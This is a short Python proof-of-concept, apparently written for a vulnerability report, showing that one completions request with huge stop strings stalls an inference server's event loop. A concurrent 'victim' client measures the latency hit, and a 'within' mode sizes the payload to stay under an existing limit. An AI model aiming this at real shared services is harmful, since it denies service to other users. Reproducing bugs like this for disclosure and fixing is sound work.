# One request's stop strings stall the event loop for everybody (bounded: max_tokens from argv).
import asyncio, httpx, json, sys, time
import os
BASE = os.environ.get("BASE", "http://127.0.0.1:18401")
N = int(sys.argv[2]) if len(sys.argv) > 2 else 30000
MAXT = int(sys.argv[1])
# argv[3] "within": two stop strings of 16,003 characters in all (within 37b2c01's limit)
if len(sys.argv) > 3 and sys.argv[3] == "within":
    stops = ["x" + "#" * 8000, "#" * 8000 + "b"]
else:
    stops = ["c" * (i + 1) + "#" * N for i in range(63)] + ["#" * N + "b"]
body = {"prompt": "x", "max_tokens": MAXT, "temperature": 0, "allowed_token_ids": [45855], "stop": stops}
print("body bytes", len(json.dumps(body)))
async def victim(c, lat, stop_evt):
    while not stop_evt.is_set():
        t = time.time()
        r = await c.post("/v1/completions", json={"prompt": "hello world", "max_tokens": 2, "temperature": 0})
        lat.append((round(time.time() - t, 3), r.status_code))
        await asyncio.sleep(0.05)
async def main():
    async with httpx.AsyncClient(base_url=BASE, timeout=300) as c:
        lat0 = []
        ev0 = asyncio.Event()
        v = asyncio.create_task(victim(c, lat0, ev0)); await asyncio.sleep(1.0); ev0.set(); await v
        print("victim alone: max %.3f n=%d" % (max(l for l, _ in lat0), len(lat0)))
        lat = []; ev = asyncio.Event()
        v = asyncio.create_task(victim(c, lat, ev))
        t = time.time()
        r = await c.post("/v1/completions", json=body)
        dt = time.time() - t
        ev.set(); await v
        j = r.json()
        print("attacker", r.status_code, f"{dt:.2f}s", j.get("usage"), j.get("choices", [{}])[0].get("finish_reason"))
        ls = sorted(l for l, _ in lat)
        print("victim during: n=%d median %.3f max %.3f statuses %s" % (len(ls), ls[len(ls)//2], ls[-1], {s for _, s in lat}))
asyncio.run(main())
